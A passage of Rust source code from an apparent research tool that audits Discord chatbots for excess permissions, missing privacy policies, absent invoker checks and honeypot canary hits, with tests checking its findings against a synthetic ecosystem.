        .map(|(tag, (total, with))| (tag.to_string(), total, with as f64 / total.max(1) as f64))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{AuditConfig, AuditPipeline};
    use synth::{build_ecosystem, EcosystemConfig, GithubClass, PolicyClass};

    fn audited() -> (Vec<AuditedBot>, synth::Ecosystem) {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(400, 99));
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        (bots, eco)
    }

    #[test]
    fn figure3_measured_matches_planted() {
        let (bots, eco) = audited();
        let rows = figure3_distribution(&bots, 25);
        assert!(!rows.is_empty());
        // The measured admin rate equals the planted one exactly — the
        // crawler decodes the very bitfields synth planted.
        let admin = rows
            .iter()
            .find(|r| r.permission == "administrator")
            .unwrap();
        let planted = eco
            .truth
            .permission_rate(discord_sim::Permissions::ADMINISTRATOR)
            * 100.0;
        assert!(
            (admin.percent - planted).abs() < 1e-9,
            "{} vs {planted}",
            admin.percent
        );
        // Rows are sorted by count descending.
        for pair in rows.windows(2) {
            assert!(pair[0].count >= pair[1].count);
        }
    }

    #[test]
    fn table1_matches_planted_histogram() {
        let (bots, eco) = audited();
        let rows = table1_histogram(&bots);
        let planted = eco.truth.developer_histogram();
        for row in &rows {
            assert_eq!(planted.get(&row.bots_per_developer), Some(&row.developers));
        }
        let pct_sum: f64 = rows.iter().map(|r| r.percent).sum();
        assert!((pct_sum - 100.0).abs() < 0.1);
    }

    #[test]
    fn permission_rate_by_tag_covers_all_tags() {
        let (bots, _eco) = audited();
        let rows = permission_rate_by_tag(&bots, discord_sim::Permissions::ADMINISTRATOR);
        assert!(!rows.is_empty());
        for (tag, total, rate) in &rows {
            assert!(*total > 0, "{tag}");
            assert!((0.0..=1.0).contains(rate), "{tag}: {rate}");
        }
        // The admin rate per tag hovers around the global calibration.
        let global: f64 = rows.iter().map(|(_, n, r)| *n as f64 * r).sum::<f64>()
            / rows.iter().map(|(_, n, _)| *n as f64).sum::<f64>();
        assert!(
            (global - 0.5486).abs() < 0.1,
            "weighted admin rate {global}"
        );
    }

    #[test]
    fn table3_pattern_breakdown_is_consistent() {
        let (bots, _eco) = audited();
        let t3 = table3_code_analysis(&bots);
        // Every checking repo contains at least one pattern; pattern hits
        // can exceed checking repos (a repo may contain several).
        let total_pattern_repos: usize = t3.pattern_repos.iter().sum();
        assert!(total_pattern_repos >= t3.js_checking + t3.py_checking);
        // At least two distinct patterns appear across a big population.
        let distinct = t3.pattern_repos.iter().filter(|&&n| n > 0).count();
        assert!(distinct >= 2, "pattern breakdown {:?}", t3.pattern_repos);
    }

    #[test]
    fn table2_counts_are_consistent() {
        let (bots, eco) = audited();
        let t2 = table2_traceability(&bots);
        assert_eq!(t2.active, eco.truth.valid_bots().count());
        assert!(t2.policy_link <= t2.website_link);
        assert!(t2.valid_policy <= t2.policy_link);
        assert_eq!(t2.complete + t2.partial + t2.broken, t2.active);
        // The paper found zero complete traceability; the planted policies
        // are generic/partial, so the analyzer must find the same.
        assert_eq!(t2.complete, 0);
        // Website fraction measured == planted (modulo nothing: both walk
        // the same listings).
        let planted_sites = eco
            .truth
            .valid_bots()
            .filter(|b| b.policy_class != PolicyClass::NoWebsite)
            .count();
        assert_eq!(t2.website_link, planted_sites);
    }

    #[test]
    fn table3_matches_planted_classes() {
        let (bots, eco) = audited();
        let t3 = table3_code_analysis(&bots);
        let planted_links = eco
            .truth
            .valid_bots()
            .filter(|b| b.github_class != GithubClass::None)
            .count();
        assert_eq!(t3.with_github_link, planted_links);
        let planted_valid = eco
            .truth
            .valid_bots()
            .filter(|b| b.github_class.is_valid_repo())
            .count();
        assert_eq!(t3.valid_repos, planted_valid);
        let planted_js_checking = eco
            .truth
            .valid_bots()
            .filter(|b| matches!(b.github_class, GithubClass::JsRepo { checks: true }))
            .count();
        assert_eq!(t3.js_checking, planted_js_checking);
        let planted_py_checking = eco
            .truth
            .valid_bots()
            .filter(|b| matches!(b.github_class, GithubClass::PyRepo { checks: true }))
            .count();
        assert_eq!(t3.py_checking, planted_py_checking);
        // The qualitative Table 3 finding: JS checks far outnumber Python.
        if t3.py_repos > 5 && t3.js_repos > 5 {
            assert!(t3.js_checking_pct() > t3.py_checking_pct());
        }
    }
}
