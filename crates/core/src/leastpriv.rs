//! Least-privilege analysis.
//!
//! §5 closes with the need for developers to "build secure, privacy-aware
//! bots with the minimal required permissions". This module operationalizes
//! that: infer the permissions a bot's *advertised commands* actually need,
//! compare with what its install page requests, and quantify the gap.

use crate::pipeline::AuditedBot;
use crawler::invite::InviteStatus;
use discord_sim::Permissions;
use serde::{Deserialize, Serialize};

/// Baseline permissions any interactive bot legitimately needs.
pub fn interaction_baseline() -> Permissions {
    Permissions::VIEW_CHANNEL | Permissions::SEND_MESSAGES
}

/// Permissions implied by one advertised command (`!kick`, `?play`, …).
///
/// The mapping covers the command vocabulary of the ecosystem; unknown
/// commands imply only the interaction baseline.
pub fn permissions_for_command(command: &str) -> Permissions {
    let verb = command
        .trim_start_matches(['!', '?', '$', '-'])
        .to_ascii_lowercase();
    match verb.as_str() {
        "kick" => Permissions::KICK_MEMBERS,
        "ban" | "unban" => Permissions::BAN_MEMBERS,
        "mute" => Permissions::MUTE_MEMBERS,
        "purge" | "clear" | "clean" => {
            Permissions::MANAGE_MESSAGES | Permissions::READ_MESSAGE_HISTORY
        }
        "play" | "skip" | "queue" | "pause" => Permissions::CONNECT | Permissions::SPEAK,
        "poll" | "vote" => Permissions::ADD_REACTIONS,
        "rank" | "daily" | "meme" | "help" | "info" | "ping" => Permissions::NONE,
        "role" | "autorole" => Permissions::MANAGE_ROLES,
        "nick" => Permissions::MANAGE_NICKNAMES,
        "invite" => Permissions::CREATE_INSTANT_INVITE,
        "webhook" => Permissions::MANAGE_WEBHOOKS,
        _ => Permissions::NONE,
    }
}

/// The least-privilege verdict for one bot.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PrivilegeGap {
    /// Bot name.
    pub name: String,
    /// What the install page requests.
    pub requested: Permissions,
    /// What the advertised commands imply (plus the interaction baseline).
    pub expected: Permissions,
    /// Requested-but-unjustified bits.
    pub excess: Permissions,
}

impl PrivilegeGap {
    /// Whether the bot requests anything its advertised functionality does
    /// not explain.
    pub fn is_over_privileged(&self) -> bool {
        !self.excess.is_empty()
    }
}

/// Compute the gap for every valid bot.
pub fn privilege_gaps(bots: &[AuditedBot]) -> Vec<PrivilegeGap> {
    bots.iter()
        .filter_map(|bot| {
            let InviteStatus::Valid { permissions, .. } = &bot.crawled.invite_status else {
                return None;
            };
            let mut expected = interaction_baseline();
            for command in &bot.crawled.scraped.commands {
                expected |= permissions_for_command(command);
            }
            Some(PrivilegeGap {
                name: bot.crawled.scraped.name.clone(),
                requested: *permissions,
                expected,
                excess: permissions.difference(expected),
            })
        })
        .collect()
}

/// Aggregate least-privilege statistics.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LeastPrivilegeSummary {
    /// Valid bots analyzed.
    pub analyzed: usize,
    /// Bots requesting permissions their commands do not explain.
    pub over_privileged: usize,
    /// Mean count of excess permission bits per bot.
    pub mean_excess_bits: f64,
    /// Bots whose entire request would be covered by dropping to the
    /// minimal set (i.e. a fix is purely configuration).
    pub fixable_by_config: usize,
}

/// Summarize gaps.
pub fn least_privilege_summary(gaps: &[PrivilegeGap]) -> LeastPrivilegeSummary {
    let over: Vec<&PrivilegeGap> = gaps.iter().filter(|g| g.is_over_privileged()).collect();
    let mean_excess_bits = if gaps.is_empty() {
        0.0
    } else {
        gaps.iter().map(|g| g.excess.count() as f64).sum::<f64>() / gaps.len() as f64
    };
    LeastPrivilegeSummary {
        analyzed: gaps.len(),
        over_privileged: over.len(),
        mean_excess_bits,
        // All over-privilege in this model is config-fixable: the expected
        // set always suffices for the advertised commands.
        fixable_by_config: over.len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{AuditConfig, AuditPipeline};
    use synth::{build_ecosystem, EcosystemConfig};

    #[test]
    fn command_mapping_covers_moderation_and_music() {
        assert_eq!(permissions_for_command("!kick"), Permissions::KICK_MEMBERS);
        assert_eq!(permissions_for_command("?ban"), Permissions::BAN_MEMBERS);
        assert!(permissions_for_command("$play").contains(Permissions::CONNECT));
        assert_eq!(permissions_for_command("!help"), Permissions::NONE);
        assert_eq!(permissions_for_command("!unknowncmd"), Permissions::NONE);
    }

    #[test]
    fn gaps_detect_admin_over_privilege() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(400, 31));
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let gaps = privilege_gaps(&bots);
        assert_eq!(gaps.len(), eco.truth.valid_bots().count());
        let summary = least_privilege_summary(&gaps);
        // The calibrated population is massively over-privileged: ~55%
        // request admin alone, which no command vocabulary explains.
        assert!(
            summary.over_privileged as f64 / summary.analyzed as f64 > 0.8,
            "over-privileged fraction {}/{}",
            summary.over_privileged,
            summary.analyzed
        );
        assert!(summary.mean_excess_bits > 1.0);
        // Every admin-requesting bot shows admin in its excess.
        for gap in gaps
            .iter()
            .filter(|g| g.requested.contains(Permissions::ADMINISTRATOR))
        {
            assert!(
                gap.excess.contains(Permissions::ADMINISTRATOR),
                "{}",
                gap.name
            );
        }
    }

    #[test]
    fn minimal_bot_has_no_gap() {
        use crate::pipeline::AuditedBot;
        use crawler::extract::ScrapedBot;
        use policy::{analyze, KeywordOntology};
        let scraped = ScrapedBot {
            id: 1,
            name: "Tidy".into(),
            invite_link: String::new(),
            tags: vec![],
            description: String::new(),
            guild_count: 0,
            vote_count: 0,
            website: None,
            github: None,
            developers: vec![],
            commands: vec!["!ping".into(), "!help".into()],
        };
        let bot = AuditedBot {
            crawled: crawler::crawl::CrawledBot {
                scraped,
                invite_status: crawler::invite::InviteStatus::Valid {
                    permissions: interaction_baseline(),
                    scopes: vec!["bot".into()],
                },
                website_reachable: false,
                policy_link_present: false,
                policy: None,
            },
            traceability: analyze(None, &[], &KeywordOntology::standard()),
            code: None,
        };
        let gaps = privilege_gaps(&[bot]);
        assert_eq!(gaps.len(), 1);
        assert!(!gaps[0].is_over_privileged(), "excess: {}", gaps[0].excess);
    }
}
