//! Risk findings and paper-style table rendering.

use crate::pipeline::{AuditReport, AuditedBot, CodeFinding, LinkResolution};
use crate::stats::{Figure3Row, Table1Row, Table2Summary, Table3Summary};
use crawler::invite::InviteStatus;
use discord_sim::Permissions;
use honeypot::TokenKind;
use policy::{PrivacyPolicy, Traceability, TraceabilityReport};
use serde::{Deserialize, Serialize};

/// A per-bot risk flag raised by the pipeline.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum RiskFlag {
    /// Requests the administrator permission (all permissions, bypasses
    /// channel overwrites, §4.2).
    RequestsAdministrator,
    /// Requests admin *plus* other permissions — redundant, implying the
    /// developer "does not completely understand the permission system"
    /// (§5).
    RedundantAdminRequest,
    /// Requests moderation-grade permissions (kick/ban/manage) without any
    /// privacy policy.
    PrivilegedWithoutPolicy,
    /// Broken traceability: no (valid) policy discloses its data practices.
    BrokenTraceability,
    /// Policy present but discloses only some practices.
    PartialTraceability,
    /// Source available and privileged commands never check the invoker —
    /// the permission re-delegation hazard (§5).
    NoInvokerChecks,
    /// Caught red-handed by the honeypot.
    HoneypotDetection,
}

/// Risk report for one bot.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RiskReport {
    /// Bot name.
    pub name: String,
    /// Client ID.
    pub id: u64,
    /// Raised flags.
    pub flags: Vec<RiskFlag>,
}

/// The scheduling-independent projection of a full audit run: every
/// measurement a report consumer reads, minus virtual-time durations and
/// the crawl/campaign spend counters whose exact values depend on worker
/// interleaving. Serializing this is byte-identical across worker counts
/// for the same seed — the property `tests/determinism.rs` pins.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CanonicalReport {
    /// The substrate the audited world was mounted on.
    pub platform: platform::PlatformKind,
    /// Per-bot static findings, in listing order.
    pub bots: Vec<CanonicalBot>,
    /// List pages traversed.
    pub pages: usize,
    /// Detail pages successfully extracted.
    pub crawled: usize,
    /// Detail pages that failed.
    pub failures: usize,
    /// Honeypot outcome (when the dynamic stage ran).
    pub honeypot: Option<CanonicalCampaign>,
}

/// One bot's static findings, stripped to scheduling-independent fields.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CanonicalBot {
    /// Client ID.
    pub id: u64,
    /// Display name.
    pub name: String,
    /// Invite-link validation outcome.
    pub invite_status: InviteStatus,
    /// Whether the listed website answered.
    pub website_reachable: bool,
    /// Whether the website shows a privacy-policy link.
    pub policy_link_present: bool,
    /// The fetched policy document.
    pub policy: Option<PrivacyPolicy>,
    /// Traceability analysis.
    pub traceability: TraceabilityReport,
    /// Code analysis.
    pub code: Option<CodeFinding>,
}

/// Honeypot campaign outcome, minus timestamps and captcha spend.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CanonicalCampaign {
    /// Guilds created.
    pub guilds_created: usize,
    /// Bots that connected.
    pub bots_tested: usize,
    /// Install attempts that failed.
    pub install_failures: usize,
    /// Canary tokens planted.
    pub tokens_planted: usize,
    /// Decoy messages posted.
    pub messages_posted: usize,
    /// Canary hits as (token id, requester, via-mail) tuples — the `at`
    /// timestamp is interleaving-dependent and excluded.
    pub triggers: Vec<(String, String, bool)>,
    /// Attributed detections.
    pub detections: Vec<CanonicalDetection>,
}

/// One attributed detection.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CanonicalDetection {
    /// Offending bot.
    pub bot_name: String,
    /// Token kinds it touched.
    pub token_kinds: Vec<TokenKind>,
    /// Requester labels observed.
    pub requesters: Vec<String>,
    /// Post-trigger chatter.
    pub followup_messages: Vec<String>,
}

impl AuditReport {
    /// Project this report onto its canonical, worker-count-independent
    /// form.
    pub fn canonical(&self) -> CanonicalReport {
        CanonicalReport {
            platform: self.platform,
            bots: self
                .bots
                .iter()
                .map(|b| CanonicalBot {
                    id: b.crawled.scraped.id,
                    name: b.crawled.scraped.name.clone(),
                    invite_status: b.crawled.invite_status.clone(),
                    website_reachable: b.crawled.website_reachable,
                    policy_link_present: b.crawled.policy_link_present,
                    policy: b.crawled.policy.clone(),
                    traceability: b.traceability.clone(),
                    code: b.code.clone(),
                })
                .collect(),
            pages: self.crawl_stats.pages,
            crawled: self.crawl_stats.bots,
            failures: self.crawl_stats.failures,
            honeypot: self.honeypot.as_ref().map(|c| CanonicalCampaign {
                guilds_created: c.guilds_created,
                bots_tested: c.bots_tested,
                install_failures: c.install_failures,
                tokens_planted: c.tokens_planted,
                messages_posted: c.messages_posted,
                triggers: c
                    .triggers
                    .iter()
                    .map(|t| (t.token_id.clone(), t.requester.clone(), t.via_mail))
                    .collect(),
                detections: c
                    .detections
                    .iter()
                    .map(|d| CanonicalDetection {
                        bot_name: d.bot_name.clone(),
                        token_kinds: d.token_kinds.clone(),
                        requesters: d.requesters.clone(),
                        followup_messages: d.followup_messages.clone(),
                    })
                    .collect(),
            }),
        }
    }

    /// Serialize the canonical projection as JSON. Byte-identical for the
    /// same seed regardless of the `workers` settings.
    pub fn canonical_json(&self) -> String {
        serde_json::to_string_pretty(&self.canonical()).expect("canonical report serializes")
    }
}

/// Moderation-grade permissions used for the `PrivilegedWithoutPolicy`
/// heuristic.
fn privileged() -> Permissions {
    Permissions::ADMINISTRATOR
        | Permissions::KICK_MEMBERS
        | Permissions::BAN_MEMBERS
        | Permissions::MANAGE_GUILD
        | Permissions::MANAGE_ROLES
        | Permissions::MANAGE_CHANNELS
        | Permissions::MANAGE_MESSAGES
}

/// Derive risk flags for one audited bot (`honeypot_hit` supplied by the
/// dynamic stage).
pub fn risk_report(bot: &AuditedBot, honeypot_hit: bool) -> RiskReport {
    let mut flags = Vec::new();
    if let InviteStatus::Valid { permissions, .. } = &bot.crawled.invite_status {
        if permissions.contains(Permissions::ADMINISTRATOR) {
            flags.push(RiskFlag::RequestsAdministrator);
            if permissions.count() > 1 {
                flags.push(RiskFlag::RedundantAdminRequest);
            }
        }
        if permissions.intersects(privileged()) && bot.crawled.policy.is_none() {
            flags.push(RiskFlag::PrivilegedWithoutPolicy);
        }
    }
    match bot.traceability.classification {
        Traceability::Broken => flags.push(RiskFlag::BrokenTraceability),
        Traceability::Partial => flags.push(RiskFlag::PartialTraceability),
        Traceability::Complete => {}
    }
    if let Some(code) = &bot.code {
        if code.resolution == LinkResolution::ValidRepo && code.performs_checks == Some(false) {
            flags.push(RiskFlag::NoInvokerChecks);
        }
    }
    if honeypot_hit {
        flags.push(RiskFlag::HoneypotDetection);
    }
    RiskReport {
        name: bot.crawled.scraped.name.clone(),
        id: bot.crawled.scraped.id,
        flags,
    }
}

/// Render Figure 3 as an ASCII horizontal bar chart, matching the paper's
/// "percentage distribution of top 20 permissions" presentation.
pub fn render_figure3(rows: &[Figure3Row]) -> String {
    let mut out = String::from("Figure 3: % distribution of top permissions requested\n");
    let width = rows.iter().map(|r| r.permission.len()).max().unwrap_or(10);
    for row in rows {
        let bar = "#".repeat((row.percent / 2.0).round() as usize);
        out.push_str(&format!(
            "{:>width$}  {:5.2}% |{bar}\n",
            row.permission,
            row.percent,
            width = width
        ));
    }
    out
}

/// Render Table 1.
pub fn render_table1(rows: &[Table1Row]) -> String {
    let mut out = String::from("Table 1: Bots distribution by number of developers\n");
    out.push_str("No of Bots | Developers (No. & %)\n");
    for row in rows {
        out.push_str(&format!(
            "{:>10} | {:>7} {:6.2}%\n",
            row.bots_per_developer, row.developers, row.percent
        ));
    }
    out
}

/// Render Table 2.
pub fn render_table2(t: &Table2Summary) -> String {
    let mut out = String::from("Table 2: Discord Traceability Results\n");
    out.push_str("Features               |  Count | Percent\n");
    out.push_str(&format!(
        "Unique active chatbots | {:>6} | 100%\n",
        t.active
    ));
    out.push_str(&format!(
        "Website Link           | {:>6} | {:.2}%\n",
        t.website_link,
        t.pct(t.website_link)
    ));
    out.push_str(&format!(
        "Privacy Policy Link    | {:>6} | {:.2}%\n",
        t.policy_link,
        t.pct(t.policy_link)
    ));
    out.push_str(&format!(
        "Privacy Policy         | {:>6} | {:.2}%\n",
        t.valid_policy,
        t.pct(t.valid_policy)
    ));
    out.push_str(&format!(
        "Traceability           | complete {} / partial {} / broken {} ({:.2}%)\n",
        t.complete,
        t.partial,
        t.broken,
        t.pct(t.broken)
    ));
    out
}

/// Render the Table 3 / code-analysis summary.
pub fn render_table3(t: &Table3Summary) -> String {
    let mut out = String::from("Table 3 / code analysis summary\n");
    out.push_str(&format!(
        "GitHub links on listings : {}\n",
        t.with_github_link
    ));
    out.push_str(&format!("Valid repositories       : {}\n", t.valid_repos));
    out.push_str(&format!("Repos with source code   : {}\n", t.with_source));
    out.push_str(&format!(
        "JavaScript               : {} repos, {} checking ({:.2}%)\n",
        t.js_repos,
        t.js_checking,
        t.js_checking_pct()
    ));
    out.push_str(&format!(
        "Python                   : {} repos, {} checking ({:.2}%)\n",
        t.py_repos,
        t.py_checking,
        t.py_checking_pct()
    ));
    out.push_str(&format!(
        "Other languages          : {}\n",
        t.other_language
    ));
    out.push_str("Table 3: Discord role checks found (repos containing each API)\n");
    for (idx, pattern) in codeanal::scanner::CheckPattern::ALL.iter().enumerate() {
        out.push_str(&format!(
            "  {}. {:22} {:>5} repos\n",
            idx + 1,
            pattern.needle(),
            t.pattern_repos[idx]
        ));
    }
    out
}

/// Exposure accounting: §4.2 motivates the honeypot with reach — "many of
/// these chatbots were present in over 250,000 guilds, and if they were
/// malicious, they would put many users at risk". This sums the guild
/// counts behind each risk flag: a proxy for how many communities each
/// class of finding touches.
pub fn exposure_by_flag(bots: &[AuditedBot]) -> Vec<(RiskFlag, u64)> {
    let flags = [
        RiskFlag::RequestsAdministrator,
        RiskFlag::RedundantAdminRequest,
        RiskFlag::PrivilegedWithoutPolicy,
        RiskFlag::BrokenTraceability,
        RiskFlag::PartialTraceability,
        RiskFlag::NoInvokerChecks,
    ];
    let reports: Vec<(RiskReport, u64)> = bots
        .iter()
        .map(|b| (risk_report(b, false), b.crawled.scraped.guild_count))
        .collect();
    flags
        .into_iter()
        .map(|flag| {
            let guilds = reports
                .iter()
                .filter(|(r, _)| r.flags.contains(&flag))
                .map(|(_, g)| g)
                .sum();
            (flag, guilds)
        })
        .collect()
}

/// Render a full markdown audit dossier: the summary tables plus a per-bot
/// findings section for every bot with at least one risk flag.
pub fn render_markdown_dossier(
    bots: &[AuditedBot],
    detections: &[honeypot::campaign::Detection],
) -> String {
    use crate::stats;
    let detected: Vec<&str> = detections.iter().map(|d| d.bot_name.as_str()).collect();
    let mut out = String::from("# Chatbot security & privacy audit\n\n");

    out.push_str("## Summary\n\n```text\n");
    out.push_str(&render_figure3(&stats::figure3_distribution(bots, 20)));
    out.push('\n');
    out.push_str(&render_table2(&stats::table2_traceability(bots)));
    out.push('\n');
    out.push_str(&render_table3(&stats::table3_code_analysis(bots)));
    out.push_str("```\n\n## Flagged bots\n\n");

    let mut flagged = 0usize;
    for bot in bots {
        let hit = detected.contains(&bot.crawled.scraped.name.as_str());
        let report = risk_report(bot, hit);
        if report.flags.is_empty() {
            continue;
        }
        flagged += 1;
        out.push_str(&format!("### {} (`{}`)\n\n", report.name, report.id));
        for flag in &report.flags {
            let line = match flag {
                RiskFlag::RequestsAdministrator => "requests the **administrator** permission",
                RiskFlag::RedundantAdminRequest => {
                    "requests admin **plus** other permissions (redundant; §5 misunderstanding)"
                }
                RiskFlag::PrivilegedWithoutPolicy => {
                    "holds moderation-grade permissions with **no privacy policy**"
                }
                RiskFlag::BrokenTraceability => "broken traceability: data practices undisclosed",
                RiskFlag::PartialTraceability => "partial traceability: some practices undisclosed",
                RiskFlag::NoInvokerChecks => {
                    "public source never checks the invoking user (**re-delegation hazard**)"
                }
                RiskFlag::HoneypotDetection => "**caught by the honeypot** accessing canary tokens",
            };
            out.push_str(&format!("- {line}\n"));
        }
        if hit {
            if let Some(det) = detections.iter().find(|d| d.bot_name == report.name) {
                out.push_str(&format!(
                    "- honeypot evidence: tokens {:?}, follow-ups {:?}\n",
                    det.token_kinds, det.followup_messages
                ));
            }
        }
        out.push('\n');
    }
    out.push_str(&format!("_{flagged} of {} bots flagged._\n", bots.len()));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{AuditConfig, AuditPipeline};
    use crate::stats;
    use synth::{build_ecosystem, EcosystemConfig};

    fn audited() -> Vec<AuditedBot> {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(200, 5));
        let pipeline = AuditPipeline::new(AuditConfig::default());
        pipeline.run_static_stages(&eco.net).0
    }

    #[test]
    fn risk_flags_raised_for_admin_bots() {
        let bots = audited();
        let admin_bots: Vec<RiskReport> = bots
            .iter()
            .map(|b| risk_report(b, false))
            .filter(|r| r.flags.contains(&RiskFlag::RequestsAdministrator))
            .collect();
        assert!(!admin_bots.is_empty());
        // Most admin requests are redundant (§5).
        let redundant = admin_bots
            .iter()
            .filter(|r| r.flags.contains(&RiskFlag::RedundantAdminRequest))
            .count();
        assert!(redundant * 2 > admin_bots.len());
    }

    #[test]
    fn honeypot_hit_flag() {
        let bots = audited();
        let r = risk_report(&bots[0], true);
        assert!(r.flags.contains(&RiskFlag::HoneypotDetection));
        let r = risk_report(&bots[0], false);
        assert!(!r.flags.contains(&RiskFlag::HoneypotDetection));
    }

    #[test]
    fn renderers_produce_paper_shaped_output() {
        let bots = audited();
        let fig3 = render_figure3(&stats::figure3_distribution(&bots, 20));
        assert!(fig3.contains("administrator"));
        assert!(fig3.contains('%'));
        let t1 = render_table1(&stats::table1_histogram(&bots));
        assert!(t1.contains("No of Bots"));
        let t2 = render_table2(&stats::table2_traceability(&bots));
        assert!(t2.contains("Unique active chatbots"));
        assert!(t2.contains("Privacy Policy Link"));
        let t3 = render_table3(&stats::table3_code_analysis(&bots));
        assert!(t3.contains("JavaScript"));
        assert!(t3.contains("Python"));
    }

    #[test]
    fn markdown_dossier_renders() {
        let bots = audited();
        let md = render_markdown_dossier(&bots, &[]);
        assert!(md.starts_with("# Chatbot security & privacy audit"));
        assert!(md.contains("## Flagged bots"));
        assert!(md.contains("administrator"));
        assert!(md.contains("bots flagged."));
    }

    #[test]
    fn exposure_counts_guilds_behind_flags() {
        let bots = audited();
        let exposure = exposure_by_flag(&bots);
        let admin = exposure
            .iter()
            .find(|(f, _)| *f == RiskFlag::RequestsAdministrator)
            .map(|(_, g)| *g)
            .unwrap_or(0);
        assert!(admin > 0, "admin-requesting bots sit in real guilds");
        let redundant = exposure
            .iter()
            .find(|(f, _)| *f == RiskFlag::RedundantAdminRequest)
            .map(|(_, g)| *g)
            .unwrap_or(0);
        assert!(redundant <= admin, "redundant ⊆ admin");
    }

    #[test]
    fn broken_traceability_dominates() {
        // The paper's headline: 95.67% of bots have broken traceability.
        let bots = audited();
        let reports: Vec<RiskReport> = bots
            .iter()
            .filter(|b| b.crawled.invite_status.is_valid())
            .map(|b| risk_report(b, false))
            .collect();
        let broken = reports
            .iter()
            .filter(|r| r.flags.contains(&RiskFlag::BrokenTraceability))
            .count();
        assert!(
            broken as f64 / reports.len() as f64 > 0.85,
            "broken rate {}",
            broken as f64 / reports.len() as f64
        );
    }
}
