//! Methodology validation against planted ground truth.
//!
//! The paper validated its traceability classifier with a manual review of
//! 100 policies ("none … was misclassified"). With a synthetic world we can
//! score *every* analyzer exhaustively: invite validation, policy
//! discovery, traceability classification, GitHub link resolution, the
//! permission-check scanner, and honeypot detection.

use crate::pipeline::{AuditedBot, LinkResolution};
use crawler::invite::InviteStatus;
use honeypot::campaign::CampaignReport;
use policy::Traceability;
use serde::{Deserialize, Serialize};
use synth::{BotTruth, GithubClass, GroundTruth, InviteClass, PolicyClass};

/// Binary-classification score for one analyzer.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct AnalyzerScore {
    /// True positives.
    pub tp: usize,
    /// False positives.
    pub fp: usize,
    /// True negatives.
    pub tn: usize,
    /// False negatives.
    pub fn_: usize,
}

impl AnalyzerScore {
    /// Record one labeled outcome.
    pub fn record(&mut self, truth: bool, predicted: bool) {
        match (truth, predicted) {
            (true, true) => self.tp += 1,
            (false, true) => self.fp += 1,
            (false, false) => self.tn += 1,
            (true, false) => self.fn_ += 1,
        }
    }

    /// Precision (1.0 when no positives were predicted).
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fp) as f64
        }
    }

    /// Recall (1.0 when nothing was there to find).
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fn_) as f64
        }
    }

    /// Total labeled cases.
    pub fn total(&self) -> usize {
        self.tp + self.fp + self.tn + self.fn_
    }
}

/// Scores for every analyzer in the pipeline.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ValidationReport {
    /// "Invite link is valid" classification.
    pub invite_validity: AnalyzerScore,
    /// "A valid policy document exists" discovery.
    pub policy_discovery: AnalyzerScore,
    /// Traceability classification agreement (exact-match accuracy).
    pub traceability_agreement: f64,
    /// "GitHub link leads to a valid repo" resolution.
    pub repo_resolution: AnalyzerScore,
    /// "Repo performs permission checks" scanning (JS+Python repos only).
    pub check_detection: AnalyzerScore,
    /// "Bot misbehaves" honeypot detection (over tested bots).
    pub honeypot_detection: AnalyzerScore,
}

fn truth_has_valid_policy(t: &BotTruth) -> bool {
    matches!(
        t.policy_class,
        PolicyClass::GenericPolicy | PolicyClass::PartialPolicy | PolicyClass::CompletePolicy
    )
}

fn truth_traceability(t: &BotTruth) -> Traceability {
    match t.policy_class {
        // Generic boilerplate and tailored-partial policies both disclose
        // some but not all practices.
        PolicyClass::GenericPolicy | PolicyClass::PartialPolicy => Traceability::Partial,
        // Only drifted worlds plant complete policies (the paper's
        // snapshot had none).
        PolicyClass::CompletePolicy => Traceability::Complete,
        _ => Traceability::Broken,
    }
}

/// Score the static pipeline against the planted truth. `bots` must come
/// from the same ecosystem as `truth` (matched by listing name).
pub fn validate_against_truth(
    bots: &[AuditedBot],
    truth: &GroundTruth,
    honeypot: Option<&CampaignReport>,
) -> ValidationReport {
    let mut report = ValidationReport::default();
    let mut traceability_hits = 0usize;
    let mut traceability_total = 0usize;

    for bot in bots {
        let Some(t) = truth.by_name(&bot.crawled.scraped.name) else {
            continue;
        };

        report.invite_validity.record(
            t.invite_class == InviteClass::Valid,
            matches!(bot.crawled.invite_status, InviteStatus::Valid { .. }),
        );

        report.policy_discovery.record(
            truth_has_valid_policy(t),
            bot.crawled
                .policy
                .as_ref()
                .map(|p| p.is_substantive())
                .unwrap_or(false),
        );

        traceability_total += 1;
        if truth_traceability(t) == bot.traceability.classification {
            traceability_hits += 1;
        }

        if t.github_class != GithubClass::None {
            let predicted_valid = bot
                .code
                .as_ref()
                .map(|c| c.resolution == LinkResolution::ValidRepo)
                .unwrap_or(false);
            report
                .repo_resolution
                .record(t.github_class.is_valid_repo(), predicted_valid);

            if let GithubClass::JsRepo { checks } | GithubClass::PyRepo { checks } = t.github_class
            {
                if let Some(code) = &bot.code {
                    if let Some(predicted) = code.performs_checks {
                        report.check_detection.record(checks, predicted);
                    }
                }
            }
        }
    }
    report.traceability_agreement = if traceability_total == 0 {
        1.0
    } else {
        traceability_hits as f64 / traceability_total as f64
    };

    if let Some(campaign) = honeypot {
        // Truth is "planted malicious", prediction is "appears in the
        // campaign's detections". Scored over bots the honeypot could have
        // tested (valid invites — §4.2's sampling base).
        let detected: Vec<&str> = campaign
            .detections
            .iter()
